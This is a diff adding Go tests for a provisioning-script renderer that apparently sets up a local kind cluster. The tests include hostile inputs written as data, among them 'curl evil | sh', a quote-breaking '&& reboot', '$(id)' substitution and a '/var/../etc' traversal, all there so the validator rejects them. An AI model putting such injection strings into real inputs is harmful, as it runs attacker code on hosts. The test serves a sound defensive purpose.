@@ -1,0 +1,128 @@
+package guest
+
+import (
+	"errors"
+	"flag"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+var update = flag.Bool("update", false, "rewrite golden files")
+
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test -update to create it)", err)
+	}
+	if string(got) != string(want) {
+		t.Errorf("%s differs from golden file:\n--- got ---\n%s\n--- want ---\n%s", name, got, want)
+	}
+}
+
+func TestProvisionGolden(t *testing.T) {
+	got, err := Render(DefaultSpec())
+	if err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "provision-default.sh", got)
+
+	s := DefaultSpec()
+	s.Kind.SHA256 = map[string]string{"arm64": strings.Repeat("a", 64), "amd64": strings.Repeat("b", 64)}
+	s.CacheDir = "/Users/dev/.klimax/registry-cache"
+	got, err = Render(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "provision-pinned-sums.sh", got)
+}
+
+// The rendered script must at least parse as bash.
+func TestProvisionParsesAsBash(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash")
+	}
+	got, err := Render(DefaultSpec())
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(bash, "-n")
+	cmd.Stdin = strings.NewReader(string(got))
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("bash -n: %v\n%s", err, out)
+	}
+}
+
+func TestProvisionRefusesUnsafeInput(t *testing.T) {
+	cases := map[string]func(*Spec){
+		"kind version": func(s *Spec) { s.Kind.Version = "v0.31.0; curl evil | sh" },
+		"kubectl":      func(s *Spec) { s.Kubectl.Version = "latest" },
+		"docker":       func(s *Spec) { s.DockerVersion = "5:28' && reboot '" },
+		"cache dir":    func(s *Spec) { s.CacheDir = "/var/lib/$(id)" },
+		"relative dir": func(s *Spec) { s.CacheDir = "cache" },
+		"dotdot":       func(s *Spec) { s.CacheDir = "/var/../etc" },
+		"inotify":      func(s *Spec) { s.InotifyMaxUserWatches = 0 },
+		"sha":          func(s *Spec) { s.Kubectl.SHA256 = map[string]string{"arm64": "abc"} },
+		"sha arch":     func(s *Spec) { s.Kubectl.SHA256 = map[string]string{"arm64;x": strings.Repeat("a", 64)} },
+	}
+	for name, mod := range cases {
+		s := DefaultSpec()
+		mod(&s)
+		if _, err := Render(s); err == nil {
+			t.Errorf("%s: unsafe input accepted", name)
+		} else if !strings.Contains(err.Error(), "fix:") {
+			t.Errorf("%s: error without a fix: %v", name, err)
+		}
+	}
+}
+
+func TestValidators(t *testing.T) {
+	for _, ok := range []string{"dev", "staging-2", "a"} {
+		if err := ValidateClusterName("cluster name", ok); err != nil {
+			t.Errorf("%q refused: %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"", "Dev", "-x", "x-", "a_b", "a b", "x;rm", strings.Repeat("a", 41)} {
+		err := ValidateClusterName("cluster name", bad)
+		var fe *FieldError
+		if !errors.As(err, &fe) || fe.Field != "cluster name" {
+			t.Errorf("%q accepted or unclear: %v", bad, err)
+		}
+	}
+	for _, ok := range []string{"runlocal.dev", "a.b.c", "example.com."} {
+		if err := ValidateDomain("domain", ok); err != nil {
+			t.Errorf("%q refused: %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"", "Example.com", "a..b", "-a.com", "a.com;x", "*.a.com"} {
+		if err := ValidateDomain("domain", bad); err == nil {
+			t.Errorf("domain %q accepted", bad)
+		}
+	}
+	if p, err := ValidateCIDR("cidr", "172.30.0.0/16"); err != nil || p.Bits() != 16 {
+		t.Errorf("cidr: %v %v", p, err)
+	}
+	for _, bad := range []string{"172.30.0.1/16", "172.30.0.0", "fd00::/8", "x"} {
+		if _, err := ValidateCIDR("cidr", bad); err == nil {
+			t.Errorf("cidr %q accepted", bad)
+		}
+	}
+	for _, p := range []int{0, -1, 65536} {
+		if err := ValidatePort("port", p); err == nil {
+			t.Errorf("port %d accepted", p)
+		}
+	}
+	if err := ValidatePort("port", 7001); err != nil {
+		t.Error(err)
+	}
+}
